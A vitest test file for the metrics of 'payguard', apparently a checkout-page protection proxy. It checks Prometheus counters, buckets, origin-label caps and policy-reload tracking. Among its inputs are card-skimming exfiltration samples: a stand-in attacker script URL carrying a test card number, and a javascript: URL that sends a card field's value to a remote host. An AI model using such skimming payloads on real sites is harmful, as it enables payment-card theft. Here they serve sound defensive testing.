import { compilePolicy } from '../../src/policy/compiled.js';
import { EventEmitter } from 'node:events';
import { describe, expect, it } from 'vitest';
import { createMetrics, INSPECTION_BUCKETS } from '../../src/observe/metrics.js';
import type { PolicyInForce } from '../../src/policy/in-force.js';
import { emptyPolicy } from '../helpers/policies.js';
import { Scrape } from './prom.js';

async function scrape(metrics: ReturnType<typeof createMetrics>): Promise<Scrape> {
  return new Scrape(await metrics.registry.metrics());
}

function inForce(serial: number, keyId: string, sha256: string): PolicyInForce {
  const policy = emptyPolicy({ serial, routes: [{ path: '/checkout/**', mode: 'block' }] });
  return { policy, compiled: compilePolicy(policy), file: 'policy.yaml', keyId, sha256, trustedComment: `serial ${serial}`, acceptedAt: new Date(0) };
}

/** A stand-in with the PolicyHolder's shape (src/policy/reload.ts): an EventEmitter with current(). */
class FakeHolder extends EventEmitter {
  accepted = 0;
  rejected = 0;
  constructor(private inForce: PolicyInForce | undefined) {
    super();
    if (inForce) this.accepted = 1;
  }
  current(): PolicyInForce | undefined {
    return this.inForce;
  }
  swap(next: PolicyInForce): void {
    this.inForce = next;
    this.accepted++;
    this.emit('reloaded', next);
  }
  reject(err: Error): void {
    this.rejected++;
    this.emit('rejected', err);
  }
}

describe('payguard metrics', () => {
  it('counts a known sequence of responses, blocks and violations exactly', async () => {
    const metrics = createMetrics();
    metrics.recordResponse('/checkout/**', 'clean');
    metrics.recordResponse('/checkout/**', 'clean');
    metrics.recordResponse('/checkout/**', 'blocked');
    metrics.recordResponse('/**', 'rewritten');
    metrics.recordResponse('unmatched', 'passed');
    metrics.recordBlocked('/checkout/**', 'foreign-form-action');
    metrics.recordBlocked('/checkout/**', 'foreign-form-action');
    metrics.recordBlocked('/checkout/**', 'too-large');
    metrics.recordViolation('form-action', 'https://evil.example');
    metrics.recordViolation('form-action', 'https://evil.example');
    metrics.recordViolation('script', 'https://cdn.evil.example/skim.js?card=4111111111111111');
    metrics.recordUpstreamError('timeout');
    metrics.recordCspReport('script-src-elem', 'https://cdn.evil.example/x.js');

    const s = await scrape(metrics);
    expect(s.family('payguard_responses_total').type).toBe('COUNTER');
    expect(s.value('payguard_responses_total', { route: '/checkout/**', verdict: 'clean' })).toBe(2);
    expect(s.value('payguard_responses_total', { route: '/checkout/**', verdict: 'blocked' })).toBe(1);
    expect(s.value('payguard_responses_total', { route: '/**', verdict: 'rewritten' })).toBe(1);
    expect(s.value('payguard_responses_total', { route: 'unmatched', verdict: 'passed' })).toBe(1);
    expect(s.sum('payguard_responses_total')).toBe(5);
    expect(s.value('payguard_blocked_responses_total', { route: '/checkout/**', reason: 'foreign-form-action' })).toBe(2);
    expect(s.value('payguard_blocked_responses_total', { route: '/checkout/**', reason: 'too-large' })).toBe(1);
    expect(s.value('payguard_violations_total', { kind: 'form-action', origin: 'https://evil.example' })).toBe(2);
    // A URL passed where an origin belongs is cut to its origin: no path or query string in a label.
    expect(s.value('payguard_violations_total', { kind: 'script', origin: 'https://cdn.evil.example' })).toBe(1);
    expect(s.value('payguard_upstream_errors_total', { kind: 'timeout' })).toBe(1);
    expect(
      s.value('payguard_csp_reports_total', { directive: 'script-src-elem', blocked_origin: 'https://cdn.evil.example' }),
    ).toBe(1);
  });

  it('puts inspection times in the buckets from 0.5 ms to 1 s', async () => {
    const metrics = createMetrics();
    for (const seconds of [0.0003, 0.002, 0.002, 0.04, 3]) metrics.observeInspection(seconds);
    const s = await scrape(metrics);
    const family = s.family('payguard_inspection_duration_seconds');
    expect(family.type).toBe('HISTOGRAM');
    const h = family.metrics[0]!;
    expect(Object.keys(h.buckets!).map(Number).filter(Number.isFinite).sort((x, y) => x - y)).toEqual(INSPECTION_BUCKETS);
    expect(Number(h.buckets!['0.0005'])).toBe(1);
    expect(Number(h.buckets!['0.0025'])).toBe(3);
    expect(Number(h.buckets!['0.05'])).toBe(4);
    expect(Number(h.buckets!['1'])).toBe(4);
    expect(Number(h.buckets!['+Inf'])).toBe(5);
    expect(Number(h.count)).toBe(5);
    expect(Number(h.sum)).toBeCloseTo(3.0443, 6);
  });

  it('keeps the series count bounded when 10,000 distinct attacker origins appear', async () => {
    const metrics = createMetrics({ maxOriginLabels: 50 });
    for (let i = 0; i < 10_000; i++) {
      metrics.recordViolation('script', `https://skim${i}.evil.example`);
      metrics.recordCspReport('script-src-elem', `https://skim${i}.evil.example/a.js`);
    }
    const s = await scrape(metrics);
    const violations = s.samples('payguard_violations_total');
    expect(violations).toHaveLength(51);
    expect(s.value('payguard_violations_total', { origin: 'other' })).toBe(10_000 - 50);
    expect(s.value('payguard_violations_total', { origin: 'https://skim0.evil.example' })).toBe(1);
    expect(s.value('payguard_violations_total', { origin: 'https://skim49.evil.example' })).toBe(1);
    expect(s.value('payguard_violations_total', { origin: 'https://skim50.evil.example' })).toBe(0);
    expect(s.sum('payguard_violations_total')).toBe(10_000);
    expect(s.samples('payguard_csp_reports_total')).toHaveLength(51);
    expect(s.value('payguard_csp_reports_total', { blocked_origin: 'other' })).toBe(10_000 - 50);
  });

  it('keeps an origin seen before the cap filled under its own label afterwards', async () => {
    const metrics = createMetrics({ maxOriginLabels: 2 });
    metrics.recordViolation('script', 'https://a.example');
    metrics.recordViolation('script', 'https://b.example');
    metrics.recordViolation('script', 'https://c.example');
    metrics.recordViolation('script', 'https://a.example');
    const s = await scrape(metrics);
    expect(s.value('payguard_violations_total', { origin: 'https://a.example' })).toBe(2);
    expect(s.value('payguard_violations_total', { origin: 'other' })).toBe(1);
  });

  it('labels opaque and missing origins without their content', async () => {
    const metrics = createMetrics();
    metrics.recordViolation('javascript-url', 'javascript:fetch("//x?c="+cc.value)');
    metrics.recordViolation('inline-script', undefined);
    metrics.recordViolation('script', 'not a url at all 4111 1111 1111 1111');
    const s = await scrape(metrics);
    expect(s.samples('payguard_violations_total').map((x) => x.labels.origin).sort()).toEqual(['invalid', 'none', 'null']);
  });

  it('shows only the policy in force in payguard_policy_info, and counts reloads', async () => {
    const metrics = createMetrics();
    const holder = new FakeHolder(inForce(7, 'AAAAAAAAAAAAAAAA', 'a'.repeat(64)));
    metrics.trackPolicy(holder);

    let s = await scrape(metrics);
    expect(s.samples('payguard_policy_info')).toEqual([
      { labels: { serial: '7', key_id: 'AAAAAAAAAAAAAAAA', sha256: 'a'.repeat(64) }, value: 1 },
    ]);
    expect(s.value('payguard_policy_reloads_total', { result: 'accepted' })).toBe(1);
    expect(s.value('payguard_policy_reloads_total', { result: 'rejected' })).toBe(0);

    holder.reject(new Error('bad signature'));
    holder.swap(inForce(8, 'BBBBBBBBBBBBBBBB', 'b'.repeat(64)));
    holder.reject(new Error('rollback'));

    s = await scrape(metrics);
    expect(s.samples('payguard_policy_info')).toEqual([
      { labels: { serial: '8', key_id: 'BBBBBBBBBBBBBBBB', sha256: 'b'.repeat(64) }, value: 1 },
    ]);
    expect(s.value('payguard_policy_reloads_total', { result: 'accepted' })).toBe(2);
    expect(s.value('payguard_policy_reloads_total', { result: 'rejected' })).toBe(2);
  });

  it('stops following a holder when the returned function is called', async () => {
    const metrics = createMetrics();
    const holder = new FakeHolder(undefined);
    const stop = metrics.trackPolicy(holder);
    expect((await scrape(metrics)).samples('payguard_policy_info')).toEqual([]);
    stop();
    holder.swap(inForce(9, 'CCCCCCCCCCCCCCCC', 'c'.repeat(64)));
    const s = await scrape(metrics);
    expect(s.samples('payguard_policy_info')).toEqual([]);
    expect(s.value('payguard_policy_reloads_total', { result: 'accepted' })).toBe(0);
  });

  it('gives each instance its own registry, with the default process metrics', async () => {
    const a = createMetrics();
    const b = createMetrics();
    a.recordResponse('/**', 'clean');
    const sb = await scrape(b);
    expect(sb.value('payguard_responses_total', { route: '/**', verdict: 'clean' })).toBe(0);
    expect(sb.family('process_cpu_user_seconds_total').type).toBe('COUNTER');
    expect(sb.family('nodejs_eventloop_lag_seconds').type).toBe('GAUGE');
  });
});
